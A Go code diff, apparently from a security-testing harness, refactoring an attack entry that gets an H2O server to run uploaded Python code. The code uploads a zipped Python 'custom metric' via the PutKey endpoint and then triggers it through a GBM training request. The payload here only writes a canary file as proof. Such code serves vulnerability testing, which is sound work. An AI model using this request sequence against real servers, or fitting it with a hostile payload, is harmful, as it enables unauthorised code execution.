@@ -337,7 +337,7 @@ var h2oCode = []Attack{
 	{
 		ID: "h2o/uploaded-metric", Doc: "uploads Python code as a metric and has it run while a model is trained", Works: h2oBoth,
 		Steps: after(ownFrame,
-			Step{Request: "POST /3/PutKey?destination_key=lab_metric_${nonce}&overwrite=true", Body: metricArchive},
+			Step{Request: "POST /3/PutKey?destination_key=lab_metric_${nonce}&overwrite=true", Make: metricArchive},
 			form("/3/ModelBuilders/gbm", "model_id=lab-model-${nonce}&training_frame=${frame}&response_column=a&ntrees=1&min_rows=1&custom_metric_func=python:lab_metric_${nonce}=canary.Metric").
 				save("job", "job.key.name"), labWait),
 		Proof: Proof{File: "${server-dir}/weir-metric-canary"},
@@ -379,15 +379,19 @@ public class lab_pojo_${nonce} extends hex.genmodel.GenModel {
 }
 `
 
-// metricArchive is the archive that h2o.upload_custom_metric makes: a Python file. This one writes a canary into the current folder.
-var metricArchive = zipOf("canary.py", `open("weir-metric-canary", "w").close()
+// metricArchive is the archive that h2o.upload_custom_metric makes: a Python file. Its source writes a canary into the current folder.
+func metricArchive(map[string]string) []byte {
+	return zipOf("canary.py", metricSource)
+}
+
+const metricSource = `open("weir-metric-canary", "w").close()
 import water.udf.CMetricFunc as MetricFunc
 
 class Metric(MetricFunc):
     def map(self, pred, act, w, o, model): return [0.0, 1.0]
     def reduce(self, l, r): return l
     def metric(self, l): return 0.0
-`)
+`
 
 func zipOf(name, text string) []byte {
 	var b bytes.Buffer
